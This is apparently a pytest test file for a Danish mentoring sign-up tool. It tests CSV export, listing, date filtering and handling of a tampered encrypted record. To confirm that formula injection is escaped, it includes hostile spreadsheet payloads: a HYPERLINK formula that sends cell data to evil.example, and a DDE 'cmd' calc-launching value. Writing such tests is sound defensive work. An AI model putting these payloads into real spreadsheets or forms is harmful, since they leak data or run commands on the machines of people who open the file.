"""The sign-ups of a form as CSV."""

import csv
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
from contextlib import closing
from dataclasses import replace

import pytest

from mentorkorps.backend.db import operator_reads
from mentorkorps.backend.signups import csv_export
from tests.conftest import ROOT

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"se her")'
COMPUTED = ("=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "=cmd|' /C calc'!A0", HOSTILE, "'=1")


def desk(portal, *arguments):
    return subprocess.run(
        [sys.executable, "-m", "mentorkorps", "desk", *map(str, arguments)],
        capture_output=True,
        cwd=ROOT,
        env=os.environ | portal.environ,
    )


def table(text: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.fixture
def busy(portal, hands):
    portal.post(phone="+45 12 34 56 78", languages=["da", "en"])
    portal.client.post(portal.link("confirm"))
    hands.pass_by(days=1)
    portal.post(name=HOSTILE, email="bo@example.org", website="x")
    hands.pass_by(days=1)
    portal.client.post(
        "/forms/interesseliste",
        data={
            "name": "Ida",
            "email": "ida@example.org",
            "place": "5000",
            "adult": "yes",
            "contact": "2026-11-22",
        },
    )
    return portal


def test_a_form_is_written_with_its_questions_as_columns(busy, tmp_path):
    file = tmp_path / "mentor.csv"
    written = desk(busy, "export", "mentor", file)

    assert (0, b"") == (written.returncode, written.stderr)
    assert b"holds 2 sign-ups." in written.stdout
    text = file.read_bytes()
    assert text.startswith(b'\xef\xbb\xbf"Nummer";"Kom";"Bekr')
    assert b"\r\n" in text
    first, second = table(text)
    cells = {
        "Navn": "Karen Testesen",
        "Telefon": "'+45 12 34 56 78",
        "Kom": "2026-11-23 10:00",
        "contact": "2026-11-22",
    }
    assert cells.items() <= first.items()
    assert {
        "Postnummer eller kommune": "Odense",
        "Ligner spam": "",
        "news": "",
    }.items() <= first.items()
    assert {"Bekræftet": "", "Ligner spam": "ja", "Navn": "'" + HOSTILE}.items() <= {
        name: value.lower() if name == "Ligner spam" else value for name, value in second.items()
    }.items()


def test_headings_and_choices_come_in_english_too(busy):
    (first, _) = table(desk(busy, "export", "mentor", "-", "--language", "en").stdout)

    assert {"Name", "Postcode or municipality", "Received"} <= set(first)
    assert "Danish, English" == first["Languages you can hold a conversation in"]


@pytest.mark.parametrize(
    ("period", "names"),
    [
        (["--from", "2026-11-24"], [HOSTILE]),
        (["--to", "2026-11-23"], ["Karen Testesen"]),
        (["--from", "2026-11-25"], []),
        (["--from", "2026-11-23", "--to", "2026-11-24"], ["Karen Testesen", HOSTILE]),
    ],
)
def test_days_limit_it_both_counted_in(busy, period, names):
    rows = table(desk(busy, "export", "mentor", "-", *period).stdout)

    assert names == [row["Navn"].removeprefix("'") for row in rows]


def test_only_its_owner_may_read_the_file_and_none_is_overwritten(busy, tmp_path):
    file = tmp_path / "mentor.csv"
    desk(busy, "export", "mentor", file)
    again = desk(busy, "export", "mentor", file)

    assert 0o600 == stat.S_IMODE(file.stat().st_mode)
    assert (2, 1) == (again.returncode, len(again.stderr.splitlines()))
    assert b"exists already" in again.stderr


def test_an_unknown_form_is_told_with_those_that_exist(busy):
    printed = desk(busy, "export", "nope", "-")

    assert 2 == printed.returncode
    assert b"only mentor, interesseliste" in printed.stderr


@pytest.mark.parametrize("cell", COMPUTED)
def test_a_cell_that_would_be_computed_is_text_and_can_be_read_back(cell):
    assert csv_export.safe(cell)[0] == "'"
    assert cell == csv_export.safe(cell)[1:]


@pytest.mark.parametrize("cell", ["Karen", "12345678", "(+45) 1", "Ærø", "", "a=b", "10-12"])
def test_other_cells_stay_as_they_are(cell):
    assert cell == csv_export.safe(cell)


def test_an_answer_to_a_question_that_is_gone_is_not_left_out(busy, real, tmp_path):
    form = real.forms["mentor"]
    shorter = replace(form, fields=tuple(field for field in form.fields if field.id != "phone"))
    sign_ups = operator_reads.each_sign_up(busy.settings)
    file = io.BytesIO()
    csv_export.CsvExport(shorter, real, "da").write(file, sign_ups, csv_export.Period())

    assert {"phone": "+45 12 34 56 78"} == json.loads(table(file.getvalue())[0]["Andre svar"])


@pytest.mark.parametrize(
    ("asked", "count"),
    [
        (["--newest", "1"], 1),
        (["--newest", "2", "--form", "mentor"], 2),
        (["--form", "mentor"], 2),
        (["--form", "interesseliste"], 1),
        (["--state", "confirmed"], 1),
        (["--state", "unconfirmed"], 2),
        (["--state", "flagged"], 1),
        (["--state", "withdrawn"], 0),
        (["--form", "mentor", "--state", "unanswered"], 2),
    ],
)
def test_the_list_can_be_narrowed(busy, asked, count):
    assert f"{count} sign-ups, ".encode() in desk(busy, "list", *asked).stdout


def test_the_newest_come_last_and_none_is_no_number(busy):
    first, second, count = desk(busy, "list", "--newest", "2").stdout.decode().splitlines()

    assert [sign_up.id for sign_up in busy.sign_ups()][1:] == [first.split()[0], second.split()[0]]
    assert "2 sign-ups, 1 not answered yet." == count
    assert b"write 1 or more" in desk(busy, "list", "--newest", "0").stderr


def test_one_that_cannot_be_decrypted_hides_none_of_the_others(busy, real):
    karen, _, ida = busy.sign_ups()
    with closing(sqlite3.connect(busy.settings.database.path)) as database, database:
        database.execute(
            "UPDATE sign_ups SET sealed = substr(sealed, 1, 20) WHERE id = ?", (karen.id,)
        )

    assert b"3 sign-ups, " in desk(busy, "list").stdout
    assert b"Ida" in desk(busy, "show", ida.id[:12]).stdout
    assert b"Ida" in desk(busy, "export", "interesseliste", "-").stdout
    printed = desk(busy, "show", karen.id)
    assert (2, f"mentorkorps: what is kept under {karen.id} was changed by something else\n") == (
        printed.returncode,
        printed.stderr.decode(),
    )


@pytest.mark.parametrize("begins", ["zzz", "%", "", "g"])
def test_what_begins_no_number_or_several_shows_nothing(busy, begins):
    printed = desk(busy, "show", begins)

    assert (2, b"") == (printed.returncode, printed.stdout)
    assert b"give the number of one sign-up" in printed.stderr
